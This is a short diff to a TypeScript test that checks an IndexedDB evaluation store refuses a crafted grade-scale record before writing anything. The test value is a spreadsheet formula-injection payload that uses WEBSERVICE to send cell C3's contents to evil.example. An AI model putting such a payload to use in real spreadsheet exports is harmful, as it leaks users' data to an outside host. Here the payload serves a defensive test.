@@ -173,8 +173,8 @@ describe('corrupt records in IndexedDB', () => {
 
   it('create refuses a crafted document before anything is written', async () => {
     const { db, store } = await setUp();
-    const e = evaluation('crafted-create') as unknown as Evaluation & { settings: { gradeScale: { bands: { min: unknown }[] } } };
-    e.settings.gradeScale.bands[1]!.min = '80,"良")&WEBSERVICE("http://evil.example/?d="&C3)&IF(FALSE';
+    const e = evaluation('crafted-create');
+    (e.settings.gradeScale.bands[1] as { min: unknown }).min = '80,"良")&WEBSERVICE("http://evil.example/?d="&C3)&IF(FALSE';
     const error = await store.create([e], [summaryOf(e)]).then(() => null, (x: unknown) => x);
     expect((error as Error).message).toMatch(/评分设置：等级“良”的下限不是数字.*（本次未写入任何评价）/);
     expect(await db.evaluations.get('crafted-create')).toBeUndefined();
